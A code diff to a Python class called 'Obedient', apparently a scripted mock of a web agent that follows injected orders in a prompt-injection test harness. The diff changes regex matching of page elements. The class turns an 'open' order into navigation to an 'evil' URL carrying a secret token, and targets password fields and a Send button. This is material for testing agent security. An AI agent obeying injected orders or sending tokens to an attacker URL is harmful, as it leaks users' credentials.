@@ -108,10 +108,10 @@ class Obedient:
         verb, _, rest = order.partition(" ")
         if verb == "open":
             return {"kind": "goto_url", "text": self.evil + rest.replace("{token}", self.token)}
-        wanted = {"type": r"textbox '(?:Password|Again)[^\n]*", "press": "button 'Send'", "click": f"link '{rest}"}[
+        wanted = {"type": r"\] textbox '(?:Password|Again)[^\n]*", "press": r"\] button 'Send'", "click": f" {rest}"}[
             verb
         ]
-        found = re.search(rf"\[((?:f\d+)?e\d+)\] {wanted}", prompt)
+        found = re.search(rf"\[((?:f\d+)?e\d+){wanted}", prompt)
         if found is None:
             return None
         more = (
